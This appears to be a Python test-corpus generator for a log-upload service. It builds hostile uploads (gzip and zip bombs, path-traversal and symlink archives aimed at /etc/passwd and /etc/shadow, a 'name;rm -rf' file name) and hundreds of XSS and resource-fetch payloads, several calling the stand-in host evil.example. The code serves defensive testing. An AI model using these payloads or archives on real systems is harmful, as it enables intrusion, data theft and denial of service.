"""Attack corpora, generated on the fly: hostile upload files and XSS payloads.

Shared by `prove/hostile.py`, `prove/xss.py`, `prove/xss_reports.py` and the always-on subset
in `make test` (apps/ingestion/tests/test_prove_subset.py). Deterministic: the same seed gives the same files.
"""

from __future__ import annotations

import gzip
import io
import os
import random
import stat
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

TS = "2024-01-15T14:02:11Z"
TEXTS = [
    f"{TS} ERROR api: connection refused to db:5432 — ünïcødé ✓ 日本語 Ελληνικά Кириллица\n"
    f"{TS} INFO worker: retry 1/3\n",
    f"{TS} WARN gateway: 上游超时 timeout after 30s\n{TS} ERROR gateway: 502 bad gateway\n",
    f"{TS} FATAL kernel: Out of memory: Killed process 4242 (java) — ½ ° ±\n",
]
ENCODINGS = [
    "utf-8",
    "utf-8-sig",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "utf-32-le",
    "latin-1",
    "cp1252",
    "iso-8859-7",
    "koi8-r",
    "cp437",
    "shift_jis",
    "euc-jp",
    "gb18030",
    "big5",
    "utf-7",
]


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str  # the upload's file name (itself hostile sometimes)
    data: bytes
    kind: str  # the family, for the per-outcome table


def _zip(members: list[tuple[str | zipfile.ZipInfo, bytes]], method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", method) as archive:
        warnings.simplefilter("ignore")  # duplicate names are the point of one file
        for name, data in members:
            archive.writestr(name, data)
    return buf.getvalue()


def _symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def _tar(members: list[tarfile.TarInfo | tuple[str, bytes]], mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as archive:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                archive.addfile(member)
            else:
                name, data = member
                info = tarfile.TarInfo(name)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _tar_special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def _gzip_zeros(size: int, payload: bytes = b"\0") -> bytes:
    """A gzip of `size` bytes of one repeated byte, compressed in chunks (a bomb)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = payload * (1024 * 1024)
    out = []
    left = size
    while left > 0:
        out.append(comp.compress(chunk[: min(left, len(chunk))]))
        left -= len(chunk)
    out.append(comp.flush())
    return b"".join(out)


def _zip_bomb(size: int) -> bytes:
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("bomb.log", "w", force_zip64=True) as member,
    ):
        line = f"{TS} INFO a\n".encode() * 40_000
        left = size
        while left > 0:
            member.write(line[: min(left, len(line))])
            left -= len(line)
    return buf.getvalue()


def hostile_files(*, full: bool = True, seed: int = 9) -> list[Hostile]:
    """≥ 500 crafted files in `full` mode (a few big bombs and a 50 MB line included);
    the small mode keeps every family but drops the costly sizes."""
    rng = random.Random(seed)
    files: list[Hostile] = []
    add = lambda name, data, kind: files.append(Hostile(name, data, kind))  # noqa: E731
    text = TEXTS[0].encode()

    # encodings: every text in every encoding, with and without a BOM where one exists
    for enc in ENCODINGS:
        for i, sample in enumerate(TEXTS):
            try:
                data = sample.encode(enc)
            except UnicodeEncodeError:
                data = sample.encode(enc, "replace")
            add(f"enc-{enc}-{i}.log", data, "encoding")
            add(
                f"enc-{enc}-{i}-crlf.log",
                sample.replace("\n", "\r\n").encode(enc, "replace"),
                "encoding",
            )
    # invalid UTF-8 of every flavour
    for i, bad in enumerate(
        [
            b"\xff",
            b"\xfe\xff",
            b"\xc3",
            b"\xe2\x82",
            b"\xf0\x9f\x98",
            b"\xed\xa0\x80",
            b"\xc0\xaf",
            b"\xf8\x88\x80\x80\x80",
            b"\x80\x80\x80",
            b"\xef\xbf\xbe",
        ]
    ):
        add(
            f"bad-utf8-{i}.log", (f"{TS} ERROR x ".encode() + bad + b" tail\n") * 50, "invalid-utf8"
        )
        add(f"bad-utf8-start-{i}.log", bad + text, "invalid-utf8")
    # binaries: random noise and real magic numbers
    for i in range(60):
        add(f"random-{i}.log", rng.randbytes(rng.choice([1, 7, 100, 4096, 65536])), "binary")
    for magic, name in [
        (b"\x7fELF\x02\x01\x01", "elf"),
        (b"\x89PNG\r\n\x1a\n", "png"),
        (b"%PDF-1.7\n", "pdf"),
        (b"SQLite format 3\0", "sqlite"),
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"MZ\x90\0", "exe"),
        (b"\xca\xfe\xba\xbe", "class"),
        (b"BZh91AY&SY", "bz2"),
        (b"\xfd7zXZ\0", "xz"),
        (b"7z\xbc\xaf\x27\x1c", "7z"),
        (b"Rar!\x1a\x07\0", "rar"),
        (b"\x28\xb5\x2f\xfd", "zstd"),
    ]:
        for size in (0, 100, 5000):
            add(f"{name}-{size}.log", magic + rng.randbytes(size), "binary")
        add(f"{name}-then-text.log", magic + b"\n" + text * 20, "binary")
    # NUL bytes
    for i in range(15):
        step = i + 1
        line = bytearray(f"{TS} INFO nul line with data {i}\n".encode())
        for pos in range(0, len(line) - 1, step):
            line[pos] = 0
        add(f"nul-{i}.log", bytes(line) * 20, "nul")
    add("all-nul.log", b"\0" * 10_000, "nul")
    add("nul-tail.log", text * 10 + b"\0" * 1000, "nul")
    # newlines: CR-only, CRLF, mixed, LFCR, lone CRs, form feeds, vertical tabs, NEL, LS/PS
    for i, sep in enumerate(
        [
            b"\r",
            b"\r\n",
            b"\n\r",
            b"\x0b",
            b"\x0c",
            b"\x1c",
            "\u0085".encode(),
            "\u2028".encode(),
            "\u2029".encode(),
            b"\r\r\n",
        ]
    ):
        body = sep.join(f"{TS} INFO line {n} sep {i}".encode() for n in range(40)) + sep
        add(f"newline-{i}.log", body, "newlines")
        add(f"newline-{i}-mixed.log", body + text + b"\r" + text, "newlines")
    # control characters, ANSI, bidi, zero-width, emoji, combining marks
    for i, ch in enumerate(
        [
            "\x1b[31m",
            "\x1b]0;title\x07",
            "\x1b[2J\x1b[H",
            "\u202e",
            "\u200b",
            "\ufeff",
            "\U0001f4a5",
            "e\u0301" * 50,
            "\x7f",
            "\x08" * 20,
            "\t" * 300,
            "\\N",
            "\\.",
            "\\",
            "\udcff",
        ]
    ):
        line = f"{TS} ERROR ctl-{i}: before {ch} after {ch}\n"
        add(f"control-{i}.log", line.encode("utf-8", "surrogateescape") * 20, "control")
    # long lines (the limit is 256 KiB: truncated and flagged)
    for size in (255 * 1024, 256 * 1024, 256 * 1024 + 1, 300 * 1024, 1024 * 1024, 3 * 1024 * 1024):
        add(f"long-{size}.log", f"{TS} INFO ".encode() + b"x" * size + b"\n" + text, "long-line")
        add(f"long-{size}-no-newline.log", b"y" * size, "long-line")
        add(
            f"long-{size}-multibyte.log",
            f"{TS} INFO ".encode() + "é".encode() * (size // 2) + b"\n",
            "long-line",
        )
    if full:
        add(
            "long-50mb.log", f"{TS} INFO ".encode() + b"z" * (50 * 1024 * 1024) + b"\n", "long-line"
        )
    # regex stress: inputs that make backtracking regexes explode
    for i, evil in enumerate(
        [
            "a" * 50_000 + "!",
            " " * 100_000 + "x",
            "(" * 20_000,
            "1." * 30_000,
            "=" * 50_000,
            '"' * 40_000,
            "{" * 30_000,
            "[" * 30_000,
            "\\" * 40_000,
            "ab" * 25_000 + "c",
            "0x" + "f" * 60_000,
            "-" * 80_000 + ">",
            "key=" * 20_000,
            "at " * 20_000,
            "/" * 60_000,
        ]
    ):
        add(f"regex-{i}.log", f"{TS} ERROR api: {evil}\n".encode() * 3, "regex")
    # structured formats gone wrong
    for i, line in enumerate(
        [
            '{"level":"error","msg":' + "[" * 5000 + "]" * 5000 + "}",
            '{"level":"error","msg":"x","n":' + "9" * 5000 + "}",
            '{"msg":"\\ud800\\udfff\\ud800","level":"error"}',
            '{"msg":"half a pair \\ud800 alone","level":"error","k":"\\udfff"}',
            '{"msg":"\\u0000 nul","level":"error","ts":"' + TS + '"}',
            '{"ts":"9999-99-99T99:99:99Z","level":"fatal","msg":"bad ts"}',
            '{"ts":-1e308,"level":1e308,"msg":null}',
            '{"a":' * 2000 + "1" + "}" * 2000,
            "{" + ",".join(f'"k{n}":{n}' for n in range(5000)) + "}",
            'level=error msg="unterminated',
            "level=error " + " ".join(f"k{n}=v{n}" for n in range(5000)),
            "<13>1 2024-01-15T14:02:11Z host app - - - syslog with no body",
            "<999999>Jan 99 99:99:99 host app[x]: bad syslog",
            "Jan 15 14:02:11 " + "h" * 10_000 + " app: long host",
            "0000-00-00 00:00:00 ERROR zero date",
            "2024-02-30T25:61:61Z ERROR impossible date",
            "1705327331 ERROR epoch seconds",
            "99999999999999999999 ERROR huge epoch",
        ]
    ):
        add(f"format-{i}.log", (line + "\n").encode("utf-8", "surrogatepass") * 5, "format")
    # empty-ish
    for i, data in enumerate(
        [
            b"",
            b"\n",
            b"\n" * 10_000,
            b" ",
            b"\r",
            b"\t\n" * 100,
            b"\xef\xbb\xbf",
            b"\xff\xfe",
            b"\xfe\xff\x00",
        ]
    ):
        add(f"empty-{i}.log", data, "empty")
    # gzip: valid, truncated at many points, corrupt CRC, concatenated, nested, bombs
    good_gz = gzip.compress(text * 2000)
    for cut in sorted(
        {
            1,
            2,
            10,
            11,
            18,
            19,
            50,
            100,
            len(good_gz) // 2,
            len(good_gz) - 8,
            len(good_gz) - 4,
            len(good_gz) - 1,
        }
        | {rng.randrange(1, len(good_gz)) for _ in range(18)}
    ):
        add(f"truncated-{cut}.log.gz", good_gz[:cut], "gzip")
    bad_crc = bytearray(good_gz)
    bad_crc[-6] ^= 0xFF
    add("bad-crc.log.gz", bytes(bad_crc), "gzip")
    flipped = bytearray(good_gz)
    for _ in range(10):
        flipped[rng.randrange(10, len(flipped) - 8)] ^= 0xFF
    add("bitflips.log.gz", bytes(flipped), "gzip")
    add("concat.log.gz", good_gz + good_gz + gzip.compress(b""), "gzip")
    add("gz-then-garbage.log.gz", good_gz + rng.randbytes(500), "gzip")
    add("gz-of-binary.log.gz", gzip.compress(rng.randbytes(10_000)), "gzip")
    add("gz-named-plain.log", good_gz, "gzip")
    nested = text
    for depth in range(1, 8):
        nested = gzip.compress(nested)
        add(f"nested-{depth}.log" + ".gz" * depth, nested, "gzip")
    for size in [40 * 2**20, 300 * 2**20, 1100 * 2**20] if full else [40 * 2**20]:
        add(f"bomb-{size >> 20}m.log.gz", _gzip_zeros(size), "bomb")
        add(f"bomb-text-{size >> 20}m.log.gz", _gzip_zeros(size, b"a" * 63 + b"\n"), "bomb")
    # zip: traversal, absolute, symlinks, encrypted, methods, nesting, many entries, bombs
    for i, name in enumerate(
        [
            "../../etc/passwd",
            "/etc/shadow",
            "C:\\Windows\\win.ini",
            "..\\..\\x.log",
            "a/../../b.log",
            "./././c.log",
            "\x00nul.log",
            "\u202egol.exe",
            "con.log",
            "x" * 400 + ".log",
            "dir/",
            "日本/ログ.log",
            "<script>alert(1)</script>.log",
            "a\nb.log",
            "%2e%2e%2fenc.log",
        ]
    ):
        add(f"traversal-{i}.zip", _zip([(name, text), ("ok.log", text)]), "zip-names")
    for i, target in enumerate(
        [
            "/etc/passwd",
            "../../../../etc/shadow",
            "/dev/urandom",
            "/proc/self/environ",
            "ok.log",
            "/dev/zero",
        ]
    ):
        add(
            f"symlink-{i}.zip",
            _zip([(_symlink_info(f"link-{i}.log"), target.encode()), ("ok.log", text)]),
            "symlink",
        )
    enc = zipfile.ZipInfo("secret.log")
    enc.flag_bits |= 0x1
    add("encrypted.zip", _zip([(enc, text), ("ok.log", text)]), "zip")
    for method, tag in [
        (zipfile.ZIP_STORED, "stored"),
        (zipfile.ZIP_BZIP2, "bzip2"),
        (zipfile.ZIP_LZMA, "lzma"),
    ]:
        add(f"method-{tag}.zip", _zip([("a.log", text * 50)], method), "zip")
    add("empty.zip", _zip([]), "zip")
    add("dirs-only.zip", _zip([("a/", b""), ("a/b/", b"")]), "zip")
    add(
        "duplicates.zip",
        _zip([("same.log", text), ("same.log", b"second\n"), ("same.log", b"\0\1")]),
        "zip",
    )
    add("binary-members.zip", _zip([(f"b{i}.log", rng.randbytes(2000)) for i in range(5)]), "zip")
    whole = _zip([("a.log", text * 200), ("b.log", text * 200)])
    for cut in (4, 30, 100, len(whole) // 2, len(whole) - 22, len(whole) - 1):
        add(f"truncated-{cut}.zip", whole[:cut], "zip")
    add("not-a-zip.zip", b"PK\x03\x04" + rng.randbytes(200), "zip")
    add("eocd-only.zip", b"PK\x05\x06" + b"\0" * 18, "zip")
    add(
        "many-entries.zip",
        _zip([(f"f{i}.log", b"x\n") for i in range(1200)], zipfile.ZIP_STORED),
        "zip",
    )
    inner = _zip([("deep.log", text)])
    for depth in range(2, 9):
        inner = _zip([(f"level{depth}.zip", inner)])
        add(f"nested-{depth}.zip", inner, "nesting")
    add("zip-in-gz.zip.gz", gzip.compress(_zip([("a.log", text)])), "nesting")
    add(
        "gz-in-zip.zip",
        _zip([("a.log.gz", gzip.compress(text)), ("b.log.gz", gzip.compress(gzip.compress(text)))]),
        "nesting",
    )
    add("tgz-in-zip.zip", _zip([("inner.tar.gz", _tar([("a.log", text)]))]), "nesting")
    add("zip-bomb.zip", _zip_bomb(300 * 2**20 if full else 40 * 2**20), "bomb")
    add(
        "zip-of-bombs.zip",
        _zip([(f"b{i}.log.gz", _gzip_zeros(8 * 2**20)) for i in range(8)]),
        "bomb",
    )
    # tar: traversal, links, devices, fifos, truncation
    for i, name in enumerate(["../../etc/passwd", "/abs.log", "a/../../b.log", "x" * 300 + ".log"]):
        add(f"tar-traversal-{i}.tar.gz", _tar([(name, text), ("ok.log", text)]), "tar")
    add(
        "tar-links.tar.gz",
        _tar(
            [
                _tar_special("sym.log", tarfile.SYMTYPE, "/etc/passwd"),
                _tar_special("hard.log", tarfile.LNKTYPE, "/etc/shadow"),
                _tar_special("dev.log", tarfile.CHRTYPE),
                _tar_special("fifo.log", tarfile.FIFOTYPE),
                ("ok.log", text),
            ]
        ),
        "symlink",
    )
    plain_tar = _tar([("a.log", text * 500), ("b.log", text * 500)], mode="w")
    add("plain.tar", plain_tar, "tar")
    tgz = _tar([("a.log", text * 500), ("b.log", text * 500)])
    for cut in (10, 100, len(tgz) // 3, len(tgz) - 5):
        add(f"truncated-{cut}.tar.gz", tgz[:cut], "tar")
    add("truncated-plain.tar", plain_tar[:700], "tar")
    add("many-entries.tar.gz", _tar([(f"f{i}.log", b"x\n") for i in range(1200)]), "tar")
    # hostile upload names for a plain log
    for name in [
        "../../../etc/passwd",
        "/etc/passwd",
        "..",
        ".",
        "a\\..\\..\\b.log",
        "<img src=x onerror=alert(1)>.log",
        '"><svg onload=alert(1)>.log',
        "\u202etxt.exe",
        "x" * 300 + ".log",
        "日本語.log",
        "name;rm -rf.log",
        "%00.log",
        "CON",
        "file.log.exe",
        ".htaccess",
    ]:
        add(name, text, "upload-name")
    # filler: valid logs in random shapes until the count is reached
    while full and len(files) < 520:
        n = len(files)
        lines = [
            f"{TS} {rng.choice(['INFO', 'ERROR', 'WARN', 'DEBUG'])} svc{rng.randrange(9)}: "
            + rng.randbytes(rng.randrange(1, 200)).decode("latin-1")
            for _ in range(rng.randrange(1, 200))
        ]
        add(f"fuzz-{n}.log", "\n".join(lines).encode("utf-8", "surrogatepass"), "fuzz")
    return files


def sample(files: list[Hostile], count: int) -> list[Hostile]:
    """`count` files spread over every family, round-robin (the always-on subset)."""
    kinds: dict[str, list[Hostile]] = {}
    for item in files:
        kinds.setdefault(item.kind, []).append(item)
    picked: list[Hostile] = []
    round_ = 0
    while len(picked) < count and any(len(v) > round_ for v in kinds.values()):
        for items in kinds.values():
            if len(items) > round_ and len(picked) < count:
                picked.append(items[round_])
        round_ += 1
    return picked


def _xss_core() -> Iterator[str]:
    js = [
        "alert(1)",
        "alert(document.domain)",
        "confirm(1)",
        "prompt(1)",
        "print()",
        "fetch('https://evil.example/x')",
        "new Image().src='https://evil.example/i'",
    ]
    for code in js:
        yield f"<script>{code}</script>"
        yield f"<img src=x onerror={code}>"
        yield f'<svg onload="{code}">'
        yield f'<body onload="{code}">'
        yield f'<a href="javascript:{code}">link</a>'
        yield f'<iframe src="javascript:{code}"></iframe>'
        yield f'<details open ontoggle="{code}">'
        yield f'"><script>{code}</script>'
        yield f"'><img src=x onerror={code}>"
        yield f"</textarea><script>{code}</script>"
        yield f"</title><script>{code}</script>"
        yield f'<input autofocus onfocus="{code}">'
        yield f'<video><source onerror="{code}"></video>'
        yield f"<math><mtext><table><mglyph><style><img src=x onerror={code}>"
        yield f'<svg><a xlink:href="javascript:{code}"><text y="20">x</text></a></svg>'
        yield f'<form action="javascript:{code}"><button>go</button></form>'
        yield f'<object data="javascript:{code}"></object>'
        yield f'<embed src="javascript:{code}">'
        yield f"<svg><script>{code}</script></svg>"
        yield f"javascript:{code}"
    for attr in ["hx-get", "hx-post", "hx-delete", "hx-put"]:
        for trigger in ["load", "revealed", "every 1s", "mouseover"]:
            yield f'<div {attr}="https://evil.example/x" hx-trigger="{trigger}">hx</div>'
        yield f'<img src=x {attr}="/t/beta/" hx-trigger="load" hx-target="body">'
    yield '<div hx-on:click="alert(1)">click</div>'
    yield '<div hx-on::load="alert(1)" hx-get="/" hx-trigger="load">x</div>'
    yield '<div hx-vals="js:{a: alert(1)}" hx-post="/x" hx-trigger="load">x</div>'
    yield '<div hx-headers="js:{a: alert(1)}" hx-get="/x" hx-trigger="load">x</div>'
    yield '<div data-hx-get="https://evil.example/" data-hx-trigger="load">x</div>'
    yield '<div hx-get="/x" hx-trigger="load[alert(1)]">x</div>'
    yield '<form hx-boost="true" action="https://evil.example/">x</form>'
    yield '<div hx-ext="evil" hx-get="data:text/html,<script>alert(1)</script>" hx-trigger="load">'
    for css in [
        "background:url(https://evil.example/bg.png)",
        "@import url(https://evil.example/x.css)",
        "behavior:url(x.htc)",
        "x:expression(alert(1))",
        "list-style:url(https://evil.example/l)",
    ]:
        yield f"<style>body{{{css}}}</style>"
        yield f'<div style="{css}">styled</div>'
    yield '<link rel="stylesheet" href="https://evil.example/x.css">'
    yield '<link rel="prefetch" href="https://evil.example/p">'
    yield '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    yield '<base href="https://evil.example/">'
    yield '<img src="https://evil.example/track.png">'
    yield '<img srcset="https://evil.example/1x.png 1x">'
    yield '<audio src="https://evil.example/a.mp3" autoplay>'
    yield '<iframe srcdoc="<script>parent.alert(1)</script>">'
    yield "<template><script>alert(1)</script></template>"
    yield "{{ 7*7 }} {% debug %} ${alert(1)} #{alert(1)}"
    yield "<!--<script>alert(1)//--><script>alert(1)</script>"
    yield "<scr<script>ipt>alert(1)</scr</script>ipt>"
    yield "&lt;script&gt;alert(1)&lt;/script&gt;"
    yield "%3Cscript%3Ealert(1)%3C/script%3E"
    yield "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"
    yield "<ScRiPt>alert(1)</sCrIpT>"
    yield "<script src=https://evil.example/x.js></script>"
    yield "<script type=module>import('https://evil.example/m.js')</script>"
    yield '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'
    yield '<a href="  javascript:alert(1)">spaces</a>'
    yield '<a href="jav&#x09;ascript:alert(1)">entity tab</a>'
    yield '<a href="&#106;avascript:alert(1)">entity j</a>'
    yield "<marquee onstart=alert(1)>m</marquee>"
    yield "<isindex type=image src=1 onerror=alert(1)>"
    yield "<x onclick=alert(1)>x</x>"
    yield "';alert(1);//"
    yield '";alert(1);//'
    yield "</script><script>alert(1)</script>"
    yield "\u2028<script>alert(1)</script>\u2029"


def xss_payloads() -> list[str]:
    """≥ 200 distinct payloads; each carries a unique tag so a hit can be traced back."""
    return list(dict.fromkeys(_xss_core()))


def fetch_payloads(origin: str) -> list[str]:
    """Payloads that make a renderer fetch something if they ever become markup: ``origin`` is a
    counting listener (``http://127.0.0.1:<port>``), plus local files WeasyPrint must never read.
    Used by prove/xss_reports.py for the PDF and Markdown exports (and the pages around them)."""
    files = ["file:///etc/passwd", "file:///dev/urandom", "/etc/passwd"]
    out: list[str] = []
    for n, url in enumerate([f"{origin}/f{n}" for n in range(3)] + files):
        out += [
            f'<img src="{url}">',
            f"<img src={url}>",
            f'<link rel="stylesheet" href="{url}">',
            f'<link rel="attachment" href="{url}">',
            f"<style>@import url({url});</style>",
            f'<div style="background:url({url})">css</div>',
            f'<svg><image href="{url}"/></svg>',
            f'<object data="{url}"></object>',
            f'<iframe src="{url}"></iframe>',
            f'<img srcset="{url} 1x">',
            f"![img {n}]({url})",
            f"[link {n}]({url})",
            f"<{url}>",
            f'<a href="{url}" rel="attachment">attach</a>',
        ]
    out += [
        f"<style>body{{font-family:x;src:url({origin}/font.woff)}}</style>",
        f'<base href="{origin}/">',
        f"[ref]: {origin}/ref\n\n[x][ref]",
        f"<meta http-equiv=refresh content='0;url={origin}/meta'>",
    ]
    return list(dict.fromkeys(out))


if __name__ == "__main__":  # a quick look: families and counts
    corpus = hostile_files(full=os.environ.get("FULL", "1") == "1")
    families: dict[str, int] = {}
    for item in corpus:
        families[item.kind] = families.get(item.kind, 0) + 1
    print(len(corpus), families, len(xss_payloads()), "xss payloads")
